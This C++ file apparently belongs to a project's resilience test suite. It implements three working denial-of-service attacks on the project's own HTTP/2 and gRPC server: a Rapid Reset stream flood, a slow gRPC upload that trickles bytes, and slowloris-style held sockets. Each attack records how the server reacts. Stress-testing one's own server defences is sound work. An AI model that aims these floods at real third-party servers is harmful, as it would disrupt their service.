#include "tests/attack/attacks.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <memory>
#include <mutex>
#include <thread>

#include "absl/strings/numbers.h"
#include "absl/time/clock.h"
#include "tests/attack/h2_client.h"

namespace gpureduce::testing {
namespace {

// Adds how the server ended `client`'s connection to `outcomes` (under `mu`).
void Record(const H2Client& client, std::mutex& mu, ConnectionOutcomes& outcomes) {
  std::lock_guard<std::mutex> lock(mu);
  ++outcomes.connections;
  if (client.goaway()) {
    ++(client.refused() ? outcomes.refused : outcomes.goaways);
    const std::string reason = client.goaway_debug().empty() ? std::to_string(client.goaway_error())
                                                             : client.goaway_debug();
    if (std::find(outcomes.goaway_reasons.begin(), outcomes.goaway_reasons.end(), reason) ==
        outcomes.goaway_reasons.end()) {
      outcomes.goaway_reasons.push_back(reason);
    }
  } else if (!client.open()) {
    ++outcomes.closed;
  }
}

// The gRPC length prefix of an uncompressed message of `length` bytes.
std::string MessagePrefix(uint64_t length) {
  const uint32_t declared = static_cast<uint32_t>(std::min<uint64_t>(length, UINT32_MAX));
  std::string prefix(5, '\0');
  for (int i = 0; i < 4; ++i) prefix[1 + i] = static_cast<char>(declared >> (24 - 8 * i));
  return prefix;
}

}  // namespace

RapidResetResult RapidReset(const RapidResetOptions& options) {
  RapidResetResult result;
  std::mutex mu;
  std::atomic<int64_t> streams{0};
  const absl::Time start = absl::Now();
  const absl::Time until = start + options.limit;
  std::vector<std::thread> attackers;
  for (int i = 0; i < options.connections; ++i) {
    attackers.emplace_back([&] {
      int64_t mine = 0;
      while (mine < options.streams && absl::Now() < until) {
        absl::StatusOr<std::unique_ptr<H2Client>> client =
            H2Client::Connect(options.target, options.source);
        if (!client.ok()) {
          std::lock_guard<std::mutex> lock(mu);
          ++result.outcomes.failed;
          std::this_thread::sleep_for(std::chrono::milliseconds(10));
          continue;
        }
        // What the server sends is read after each stream, so that the burst stops at its
        // GOAWAY (read even once the server's close makes the writes fail: H2Client::Pump).
        while (mine < options.streams && (*client)->OpenAndReset(options.method)) {
          ++mine;
          if (options.pause > absl::ZeroDuration()) absl::SleepFor(options.pause);
          if (!(*client)->Pump(absl::ZeroDuration())) break;
          if (mine % 256 == 0 && absl::Now() > until) break;
        }
        // What the server says once the burst is over: a GOAWAY, a close, or nothing.
        const absl::Time settle = absl::Now() + absl::Milliseconds(200);
        while ((*client)->Pump(absl::Milliseconds(20)) && absl::Now() < settle) {
        }
        Record(**client, mu, result.outcomes);
      }
      streams.fetch_add(mine);
    });
  }
  for (std::thread& attacker : attackers) attacker.join();
  result.streams = streams.load();
  result.took = absl::Now() - start;
  return result;
}

SlowUploadResult SlowUpload(const SlowUploadOptions& options) {
  SlowUploadResult result;
  std::mutex mu;
  std::vector<std::thread> attackers;
  for (int i = 0; i < options.connections; ++i) {
    attackers.emplace_back([&] {
      absl::StatusOr<std::unique_ptr<H2Client>> connected =
          H2Client::Connect(options.target, options.source);
      if (!connected.ok()) {
        std::lock_guard<std::mutex> lock(mu);
        ++result.outcomes.failed;
        return;
      }
      H2Client& client = **connected;
      std::vector<int32_t> calls;
      for (int s = 0; s < options.streams_per_connection; ++s) {
        const int32_t call = client.OpenCall(options.method);
        if (call < 0) break;
        client.Send(call, MessagePrefix(options.declared_bytes));
        client.SendZeros(call, options.sent_bytes);
        calls.push_back(call);
      }
      const absl::Time start = absl::Now();
      absl::Time next_trickle = start + options.trickle_every;
      while (client.Pump(absl::Milliseconds(50)) && absl::Now() - start < options.hold) {
        if (absl::Now() >= next_trickle) {
          for (int32_t call : calls) client.Send(call, std::string(4, '\0'));
          next_trickle += options.trickle_every;
        }
      }
      std::vector<int> codes;
      for (int32_t call : calls) {
        if (client.grpc_status(call) >= 0) codes.push_back(client.grpc_status(call));
        client.Reset(call);
      }
      client.Flush(absl::Seconds(1));
      Record(client, mu, result.outcomes);
      std::lock_guard<std::mutex> lock(mu);
      result.calls += calls.size();
      result.calls_ended_by_server += codes.size();
      result.codes.insert(result.codes.end(), codes.begin(), codes.end());
      result.bytes_sent += client.body_bytes_sent();
    });
  }
  for (std::thread& attacker : attackers) attacker.join();
  return result;
}

HeldSockets::HeldSockets(const std::string& target, int connections, bool half_request) {
  const size_t colon = target.rfind(':');
  int port = 0;
  if (!absl::SimpleAtoi(target.substr(colon + 1), &port)) return;
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(port);
  if (inet_pton(AF_INET, target.substr(0, colon).c_str(), &address.sin_addr) != 1) return;
  for (int i = 0; i < connections; ++i) {
    const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) break;
    if (connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0) {
      close(fd);
      break;
    }
    if (half_request) {
      constexpr char kHalf[] = "GET /metr";
      (void)!send(fd, kHalf, sizeof(kHalf) - 1, MSG_NOSIGNAL);
    }
    fds_.push_back(fd);
  }
}

HeldSockets::~HeldSockets() {
  for (int fd : fds_) close(fd);
}

int HeldSockets::ClosedByServer() const {
  int closed = 0;
  for (int fd : fds_) {
    pollfd poller{fd, POLLIN | POLLRDHUP, 0};
    if (poll(&poller, 1, 0) > 0 && (poller.revents & (POLLRDHUP | POLLHUP | POLLERR))) ++closed;
  }
  return closed;
}

}  // namespace gpureduce::testing
